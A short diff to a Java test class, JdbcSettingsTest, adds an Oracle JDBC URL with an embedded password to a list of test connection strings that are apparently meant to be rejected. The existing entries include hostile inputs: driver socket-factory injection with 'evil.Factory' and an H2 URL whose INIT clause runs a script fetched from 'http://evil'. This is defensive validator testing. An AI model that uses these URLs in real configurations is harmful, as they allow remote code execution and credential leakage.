@@ -62,6 +62,7 @@ class JdbcSettingsTest {
         "jdbc:postgresql://db/hr?password=hunter2",
         "jdbc:mysql://root:hunter2@db/hr",
         "jdbc:sqlserver://db;databaseName=hr;password=hunter2",
+        "jdbc:oracle:thin:scott/hunter2@//db:1521/hr",
         "jdbc:postgresql://db/hr?socketFactory=evil.Factory",
         "jdbc:postgresql://db/hr?sslfactory=evil.Factory&sslfactoryarg=x",
         "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
